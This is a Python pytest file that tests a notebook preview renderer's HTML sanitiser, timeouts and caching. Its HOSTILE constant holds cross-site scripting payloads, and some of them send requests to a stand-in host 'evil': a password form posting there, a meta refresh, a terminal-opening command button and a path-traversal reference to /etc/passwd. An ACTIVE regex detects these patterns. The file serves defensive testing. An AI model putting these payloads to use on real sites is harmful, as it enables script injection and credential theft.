"""Previews hold nothing but what can be read, and always come to an end."""

from __future__ import annotations

import re
import time

import nbformat
import pytest
from nbformat.v4 import new_markdown_cell, new_output

from fairihub_catalog.preview import PREVIEW
from fairihub_catalog.reading import version_of
from fairihub_core.renderings import Renderings
from fairihub_core.sanitise import sanitised
from tests.catalog.helpers import code, notebook, shown

HOSTILE = """
<script>alert(1)</script><style>@import 'http://evil/x.css'</style>
<img src="http://evil/pixel.png" onerror="alert(1)"><img src=x onerror=alert(1)>
<form action="http://evil/"><input name="password"><button formaction="http://evil/">go</button></form>
<iframe src="http://evil/"></iframe><object data="http://evil/"></object><embed src="http://evil/">
<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</button>
<a href="javascript:alert(1)">a</a><a href="data:text/html,<script>alert(1)</script>">b</a>
<svg onload="alert(1)"><script>alert(1)</script></svg><math><mtext></mtext></math>
<div style="position:fixed;background:url(http://evil/bg.png)" onclick="alert(1)"
 id="jp-main">x</div>
<meta http-equiv="refresh" content="0;url=http://evil/"><base href="http://evil/">
<link rel=stylesheet href="http://evil/">
<video src="http://evil/v.mp4"></video><img srcset="http://evil/2x.png 2x">
<template><img src=x></template>
"""
ACTIVE = re.compile(
    r"<script|<iframe|<object|<embed|<form|<input|<button|<svg|<math|<link|<base|<video|<template"
    r"|\son\w+\s*=|javascript:|data-\w+=|srcset|url\(|@import|http-equiv=.refresh|src=.http"
    r"|href=.data:|position:|\sid=",
    re.IGNORECASE,
)


def body_of(page: bytes) -> str:
    return page.decode().partition("<body>")[2]


def preview(tmp_path, made, seconds=10) -> str:
    raw = nbformat.writes(made).encode()
    return body_of(
        Renderings(tmp_path / "p", PREVIEW, seconds).of(version_of(raw), lambda: raw).page
    )


def test_what_is_hostile_is_gone_and_what_is_meant_stays(tmp_path):
    made = notebook(
        "Kept",
        cells=[
            new_markdown_cell(HOSTILE),
            new_markdown_cell("![pic](http://evil/md.png) [ok](https://example.org/)"),
            new_markdown_cell("![](../../etc/passwd) ![](attachment:../../x)"),
            code(
                "print('hello')",
                shown(text_html=f"<table><tr><td>cell</td></tr></table>{HOSTILE}"),
                shown(image_svg="<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>"),
                new_output("display_data", {"application/javascript": "alert(1)"}),
                new_output("stream", text="\x1b[31mred\x1b[0m <script>x</script>"),
            ),
        ],
    )
    page = preview(tmp_path, made)
    assert not ACTIVE.findall(page)
    assert "passwd" not in page
    for kept in ("Kept", "hello", "cell", "red", 'href="https://example.org/"', "image/svg+xml"):
        assert kept in page


@pytest.mark.parametrize(
    ("given", "left"),
    [
        ('<b class="x">a</b>', '<b class="x">a</b>'),
        ('<p style="color:red;position:fixed">a</p>', '<p style="color:red">a</p>'),
        ("<td>a<script>b</script></td>", "a"),
        ('<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA">'),
        ('<img src="data:text/html;base64,AAAA">', "<img>"),
        ('<img src="//evil/x">', "<img>"),
        ('<img src="/user/me/api">', "<img>"),
        ("<!-- x -->", ""),
    ],
)
def test_sanitised(given, left):
    assert sanitised(given) == left


@pytest.mark.parametrize(
    "made",
    [
        notebook(cells=[new_markdown_cell("[" * 100_000)]),
        notebook(cells=[new_markdown_cell("<div>" * 10_000)]),
        notebook(cells=[code("1", shown(text_html="<div>" * 50_000))]),
        notebook(cells=[code("1", new_output("stream", text="\x1b[31mx" * 200_000))]),
        notebook(cells=[code("x = 1\n" * 1_000_000)]),
    ],
    ids=["brackets", "divs", "output-divs", "ansi", "long"],
)
def test_a_hostile_notebook_ends_in_time_with_a_page(tmp_path, made):
    began = time.monotonic()
    page = preview(tmp_path, made, seconds=3)
    assert time.monotonic() - began < 15
    assert "</html>" in page
    assert not ACTIVE.findall(page)


def test_attached_pictures_are_shown(tmp_path):
    cell = new_markdown_cell("![a](attachment:a.png)")
    cell["attachments"] = {"a.png": {"image/png": "iVBORw0KGgo="}}
    assert "data:image/png;base64,iVBORw0KGgo=" in preview(tmp_path, notebook(cells=[cell]))


def test_what_takes_too_long_says_so_and_is_not_tried_at_once_again(tmp_path):
    raw = nbformat.writes(notebook(cells=[code("1", shown(text_html="<div>" * 39_000))])).encode()
    previews = Renderings(tmp_path, PREVIEW, 2)
    page = previews.of(version_of(raw), lambda: raw)
    assert page.failed
    assert b"No preview" in page.page
    began = time.monotonic()
    assert previews.of(version_of(raw), lambda: 1 / 0) == page
    assert time.monotonic() - began < 1


def test_a_preview_is_kept_by_content(tmp_path):
    raw = nbformat.writes(notebook("Once")).encode()
    previews = Renderings(tmp_path, PREVIEW)
    first = previews.of(version_of(raw), lambda: raw)
    assert b"Once" in first.page
    assert previews.of(version_of(raw), lambda: 1 / 0) == first


def test_a_file_that_changed_meanwhile_is_not_kept_under_its_old_version(tmp_path):
    new = nbformat.writes(notebook("New")).encode()
    previews = Renderings(tmp_path, PREVIEW)
    previews.of("0" * 64, lambda: new)
    assert b"New" in previews.of(version_of(new), lambda: 1 / 0).page
    with pytest.raises(ZeroDivisionError):
        previews.of("0" * 64, lambda: 1 / 0)


def test_no_notebook_gives_an_honest_page(tmp_path):
    assert b"No preview" in Renderings(tmp_path, PREVIEW).of("1" * 64, lambda: b"no notebook").page


def test_the_page_itself_forbids_to_load_anything(tmp_path):
    raw = nbformat.writes(notebook()).encode()
    page = Renderings(tmp_path, PREVIEW).of(version_of(raw), lambda: raw).page.decode()
    assert "default-src 'none'" in page
    assert "prefers-color-scheme: dark" in page
    assert not re.search(r"https?://", page.replace("http-equiv", ""))
